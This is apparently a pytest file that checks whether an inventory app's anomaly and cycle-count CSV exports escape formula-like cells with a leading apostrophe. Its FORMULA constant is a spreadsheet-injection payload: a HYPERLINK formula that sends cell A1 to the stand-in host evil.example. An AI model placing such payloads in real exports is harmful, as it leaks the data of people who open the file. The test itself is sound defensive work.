"""The anomaly and cycle-count CSV exports write formula-like text as plain text."""

from __future__ import annotations

import csv
import io

import pytest

from anomalies.services.export import anomalies_export_csv
from outcomes.models import CycleCount
from outcomes.services import cycle_counts_export_csv
from tests.factories import AnomalyFactory, LocationFactory, ProductFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_anomaly_export_quotes_formula_like_cells_and_keeps_numbers():
    product = ProductFactory(sku="@SKU1", name=FORMULA)
    AnomalyFactory(
        product=product,
        location=LocationFactory(code="+S1"),
        explanation="-5 units",
        actual_value=-4.0,
    )
    out = io.StringIO()

    assert anomalies_export_csv(out=out) == 1

    row = _rows(out.getvalue())[0]
    assert row["product_name"] == "'" + FORMULA
    assert row["sku"] == "'@SKU1"
    assert row["location"] == "'+S1"
    assert row["explanation"] == "'-5 units"
    assert row["actual_value"] == "-4.00"


def test_cycle_count_sheet_quotes_formula_like_cells():
    anomaly = AnomalyFactory(product=ProductFactory(name=FORMULA, sku="=1+1"))
    CycleCount.objects.create(
        anomaly=anomaly, product=anomaly.product, location=anomaly.location, priority=1.5
    )
    out = io.StringIO()

    cycle_counts_export_csv(queryset=CycleCount.objects.all(), out=out)

    row = next(csv.reader(io.StringIO(out.getvalue().splitlines()[1])))
    assert row[:2] == ["'=1+1", "'" + FORMULA]
